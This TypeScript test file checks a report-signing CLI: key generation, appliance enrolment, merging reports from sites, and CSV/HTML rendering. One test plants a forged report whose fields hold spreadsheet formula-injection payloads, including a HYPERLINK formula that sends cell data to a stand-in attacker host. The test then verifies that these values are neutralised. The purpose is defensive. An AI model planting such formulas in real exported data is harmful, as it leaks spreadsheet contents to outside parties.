import t from 'tap';
import { execFile } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CLI } from '../bridge/fixtures.js';
import { signReport } from '../../src/report/signing.js';
import { fixtureReport, siteFixture, siteReport } from '../fixtures/national-reports.js';

// report keygen → collector enroll → report sign → report merge (the collector's work offline),
// through the built CLI, as the national team would on a folder of reports from the sites.

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) =>
    execFile(process.execPath, [CLI, ...args], (err, stdout, stderr) => resolve({ code: err ? Number(err.code) : 0, stdout, stderr })),
  );
}

t.test('keygen, enroll, sign, merge', async (t) => {
  const dir = t.testdir();
  const config = join(dir, 'config.json');
  writeFileSync(
    config,
    JSON.stringify({
      site: { appliance_id: 'usmp-merge-01', establishment_code: '0990001M' },
      report: { signing_key_file: join(dir, 'keys', 'signing.pem') },
      collector: { appliances_file: join(dir, 'appliances.json') },
    }),
  );
  const keygen = await cli(['-c', config, 'report', 'keygen', '--json']);
  t.equal(keygen.code, 0, keygen.stderr);
  const key = JSON.parse(keygen.stdout) as { public_key: string; key_id: string; appliance_id: string };
  t.equal(key.appliance_id, 'usmp-merge-01');
  t.equal((await cli(['-c', config, 'report', 'keygen'])).code, 2, 'an existing key is never overwritten');
  const withoutCode = await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'usmp-merge-01', '--public-key', key.public_key]);
  t.equal(withoutCode.code, 2, 'a key is enrolled for an establishment, never without');
  t.match(withoutCode.stderr, /--establishment-code/);
  const enroll = await cli([
    '-c',
    config,
    'collector',
    'enroll',
    '--appliance-id',
    'usmp-merge-01',
    '--public-key',
    key.public_key,
    '--establishment-code',
    '0990001M',
    '--region',
    'DISP Paris',
    '--json',
  ]);
  t.equal(enroll.code, 0, enroll.stderr);
  t.match(JSON.parse(enroll.stdout), { key_id: key.key_id, appliance_id: 'usmp-merge-01', establishment_code: '0990001M', region: 'DISP Paris' });
  t.match(
    (
      await cli([
        '-c',
        config,
        'collector',
        'enroll',
        '--appliance-id',
        'x',
        '--public-key',
        'not-a-key',
        '--establishment-code',
        '0990002M',
        '--region',
        'DISP Paris',
      ])
    ).stderr,
    /USMP_E_ENROLMENT_FILE: .*public_key must be a raw Ed25519 public key/,
  );

  // a folder as it comes back from the sites: reports signed here, one from elsewhere, one broken
  const reports = join(dir, 'from-sites');
  mkdirSync(join(reports, 'site-a'), { recursive: true });
  const mine = { ...fixtureReport(), site: { ...(fixtureReport()['site'] as object), appliance_id: 'usmp-merge-01', establishment_code: '0990001M' } };
  writeFileSync(join(reports, 'site-a', 'report.json'), JSON.stringify(mine));
  t.equal((await cli(['-c', config, 'report', 'sign', join(reports, 'site-a', 'report.json')])).code, 0);
  writeFileSync(join(reports, 'copy-of-a.json'), readFileSync(join(reports, 'site-a', 'report.json')));
  writeFileSync(join(reports, 'other.json'), JSON.stringify(siteReport(fixtureReport(), siteFixture(5), 0)));
  writeFileSync(join(reports, 'broken.json'), '{"report_id": ');
  const out = join(dir, 'merged');
  const merge = await cli(['report', 'merge', reports, '--keys', join(dir, 'appliances.json'), '--out', out, '--json']);
  t.equal(merge.code, 2, 'refused reports make the merge exit 2');
  const result = JSON.parse(merge.stdout) as { merged: number; duplicates: number; refused: Array<{ file: string; code: string }> };
  t.equal(result.merged, 1);
  t.equal(result.duplicates, 1);
  t.same(result.refused.map((r) => [r.file, r.code]).sort(), [
    ['broken.json', 'USMP_E_REPORT_MALFORMED'],
    ['other.json', 'USMP_E_REPORT_KEY_UNKNOWN'],
  ]);
  const csv = readFileSync(join(out, 'reports.csv'), 'utf8').trimEnd().split('\r\n');
  t.equal(csv.length, 2, 'header and one row');
  t.match(csv[1], /^[0-9a-f-]{36},0990001M,/);
  t.match(readFileSync(join(out, 'index.html'), 'utf8'), /data-site="0990001M"/);
  t.equal(readFileSync(join(out, 'pscheduler.ndjson'), 'utf8').trimEnd().split('\n').length, 3);

  const html = await cli(['report', 'render', join(reports, 'site-a', 'report.json'), '--lang', 'en', '--out', '-']);
  t.match(html.stdout, /<html lang="en">/);
  const csvRow = await cli(['report', 'render', join(reports, 'site-a', 'report.json'), '--format', 'csv', '--out', '-']);
  t.equal(csvRow.stdout.trimEnd().split('\r\n').length, 2);
});

t.test('merge without --keys: a self-signed forgery is marked in every row and the summary; no cell is a live formula', async (t) => {
  const dir = t.testdir();
  const reports = join(dir, 'from-anywhere');
  mkdirSync(reports, { recursive: true });
  // anyone can sign with a key of their own making
  const forgery = siteReport(fixtureReport(), { ...siteFixture(7), code: '0999001A' }, 0);
  const site = forgery['site'] as Record<string, unknown>;
  writeFileSync(
    join(reports, 'forged.json'),
    JSON.stringify(
      signReport(
        { ...forgery, site: { ...site, establishment: '=HYPERLINK("https://attacker.invalid/?"&A1,"Forged site")', usmp: '+33 1 23', auditor: '@SUM(1+1)' } },
        siteFixture(7).key,
      ),
    ),
  );
  const out = join(dir, 'merged');
  const merge = await cli(['report', 'merge', reports, '--out', out]);
  t.equal(merge.code, 0, merge.stderr);
  t.match(merge.stderr, /enrolment NOT checked \(no --keys\)/, 'the summary says enrolment was not checked');
  const csv = readFileSync(join(out, 'reports.csv'), 'utf8').trimEnd().split('\r\n');
  t.equal(csv.length, 2);
  t.match(
    csv[0],
    /,enrolment,last_heartbeat_at,availability_30d_pct,hours_degraded_30d,acts_calls_365d,acts_minutes_365d,acts_poor_pct_365d,acts_attempts_365d,acts_source$/,
  );
  t.match(csv[1], /,not checked,,,,,,,,$/, 'the row says enrolment was not checked; offline, no live figures nor acts');
  t.match(csv[1], /,"'=HYPERLINK\(""https:/, 'a formula is written as text (OWASP: leading quote)');
  t.match(csv[1], /,"'\+33 1 23",/);
  t.match(csv[1], /,"'@SUM\(1\+1\)",/);
  t.notMatch(csv[1], /,=|,"=|,\+|,@/, 'no cell starts with a formula character');
  const json = JSON.parse(readFileSync(join(out, 'reports.json'), 'utf8')) as Array<{ enrolment: string }>;
  t.equal(json[0]!.enrolment, 'not checked');
});
